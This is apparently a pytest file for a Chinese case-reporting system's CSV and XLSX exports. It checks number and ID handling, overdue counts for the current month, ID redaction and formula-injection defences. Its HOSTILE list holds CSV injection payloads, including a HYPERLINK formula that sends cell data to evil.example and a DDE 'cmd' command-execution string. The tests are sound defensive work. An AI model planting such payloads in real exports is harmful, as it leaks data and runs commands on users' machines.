"""Exports say what is true and run nothing: identifiers stay text, user text is never a formula,
and a period that has not ended is measured at now."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import time_machine
from openpyxl import load_workbook

from notifications.report_files import FORMULA_TRIGGERS, Table, to_csv, to_xlsx
from tests.helpers import CREDIT_CODE, Api, penalty_case

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&B3,\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
"""(Leading TAB and CR are stripped by the API's input rules; the writer's own test covers them.)"""


def at(day: str, hour: int = 10) -> datetime:
    y, m, d = map(int, day.split("-"))
    return datetime(y, m, d, hour - 8, tzinfo=UTC)


def _sheet_values(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _no_formula_cells(content: bytes) -> None:
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)


def test_an_all_digit_credit_code_stays_exact_in_xlsx_and_amounts_stay_numbers(api: Api) -> None:
    assert CREDIT_CODE.isdigit()  # 914403001922038216: a float would read it back as ...272
    officer, city = api.principal("officer", "150602"), api.principal("city")
    with time_machine.travel(at("2026-03-10"), tick=False):
        api.create(officer, penalty_case(amounts={"case_value": "12000.50", "illegal_turnover": 80000}))
    with time_machine.travel(at("2026-04-02"), tick=False):
        content = api.get(city, "/reports/case-details", month="2026-03", format="xlsx").content
    rows = _sheet_values(content)
    header = rows[1]
    row = rows[2]
    assert row[header.index("统一社会信用代码")] == CREDIT_CODE
    number = row[header.index("案件编号")]
    assert isinstance(number, str) and number.startswith("东市监知")
    assert row[header.index("案值（元）")] == 12000.5
    assert row[header.index("非法经营额（元）")] == 80000
    totals = rows[-1]
    assert totals[header.index("案值（元）")] == 12000.5


def test_user_text_that_looks_like_a_formula_is_neutralised_in_every_export(api: Api) -> None:
    officer, city = api.principal("officer", "150602"), api.principal("city")
    with time_machine.travel(at("2026-03-10"), tick=False):
        for text in HOSTILE:
            body = penalty_case(title=text)
            body["parties"]["respondent"] = {"name": text, "type": "individual"}
            body["parties"].pop("complainant")
            api.create(officer, body)
    with time_machine.travel(at("2026-04-02"), tick=False):
        xlsx = api.get(city, "/reports/case-details", month="2026-03", format="xlsx").content
        raw = api.get(city, "/reports/case-details", month="2026-03", format="csv").content
    _no_formula_cells(xlsx)
    shown = {v for row in _sheet_values(xlsx) for v in row if isinstance(v, str)}
    for text in HOSTILE:
        assert "'" + text in shown and text not in shown
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    values = {v for row in rows for v in row}
    for text in HOSTILE:
        assert "'" + text in values and text not in values


def test_the_one_writer_neutralises_headers_titles_and_totals_too() -> None:
    table = Table("=title", "+subtitle", [("a", "@label"), ("n", "金额")],
                  [{"a": "=1+1", "n": "5.00"}, {"a": "\t=cmd", "n": 7}, {"a": "\r=cmd", "n": "=1"}],
                  {"a": "-total", "n": "5.00"}, numeric=frozenset({"n"}))
    _no_formula_cells(to_xlsx(table))
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_TRIGGERS), rows
    assert rows[2] == ["'=1+1", "5.00"] and rows[3] == ["'\t=cmd", "7"] and rows[4] == ["'\r=cmd", "'=1"]


def test_the_current_month_counts_overdue_at_now_not_at_its_end(api: Api) -> None:
    """A case received on the 1st is due on the 22nd (15 working days): on the 2nd it is not overdue."""
    officer, city = api.principal("officer", "150602"), api.principal("city")
    with time_machine.travel(at("2026-12-01"), tick=False):
        case = api.create(officer, penalty_case())
    due = next(d for d in case["deadlines"] if d["name"] == "filing_decision")["due"]
    assert "2026-12-02" < due[:10] <= "2026-12-31"
    with time_machine.travel(at("2026-12-02"), tick=False):
        figures = {f["key"]: f["value"] for f in api.get(city, "/reports/monthly", month="2026-12").json()["figures"]}
    assert figures["open_at_end"] == 1 and figures["overdue_at_end"] == 0
    with time_machine.travel(at("2027-01-05"), tick=False):  # the month has ended: due in it, unmet → overdue
        figures = {f["key"]: f["value"] for f in api.get(city, "/reports/monthly", month="2026-12").json()["figures"]}
    assert figures["open_at_end"] == 1 and figures["overdue_at_end"] == 1


def test_the_bulletin_of_a_running_period_ranks_by_overdue_at_now(api: Api) -> None:
    """The same figure ranks the bulletin: a case due later in the period does not sink its district."""
    officer, city = api.principal("officer", "150602"), api.principal("city")
    with time_machine.travel(at("2026-12-01"), tick=False):
        api.create(officer, penalty_case())
    with time_machine.travel(at("2026-12-02"), tick=False):
        running = api.get(city, "/reports/bulletin", **{"from": "2026-12-01", "to": "2026-12-31"}).json()
    rows = {r["district"]: r for r in running["rows"]}
    assert rows["150602"]["overdue_at_end"] == 0 and rows["150602"]["rank"] == 1  # received 1, nothing overdue
    with time_machine.travel(at("2027-01-05"), tick=False):
        ended = api.get(city, "/reports/bulletin", **{"from": "2026-12-01", "to": "2026-12-31"}).json()
    rows = {r["district"]: r for r in ended["rows"]}
    assert rows["150602"]["overdue_at_end"] == 1 and rows["150602"]["rank"] == len(ended["rows"])


def test_id_numbers_in_free_text_leave_no_export_whole(api: Api) -> None:
    """附件2 carries titles and party names: an ID number typed into them is removed in every format."""
    officer, city = api.principal("officer", "150602"), api.principal("city")
    id_number = "150602199001016207"  # valid GB 11643 check character, glued to Chinese text below
    with time_machine.travel(at("2026-03-10"), tick=False):
        api.create(officer, penalty_case(title=f"李某（身份证{id_number}）销售假冒白酒"))
    with time_machine.travel(at("2026-04-02"), tick=False):
        for fmt in ("csv", "xlsx", "html"):
            content = api.get(city, "/reports/case-details", month="2026-03", format=fmt).content
            text = content.decode("utf-8-sig") if fmt != "xlsx" else \
                " ".join(str(v) for row in _sheet_values(content) for v in row)
            assert id_number not in text and "李某（身份证[身份证号已删除]）" in text, fmt
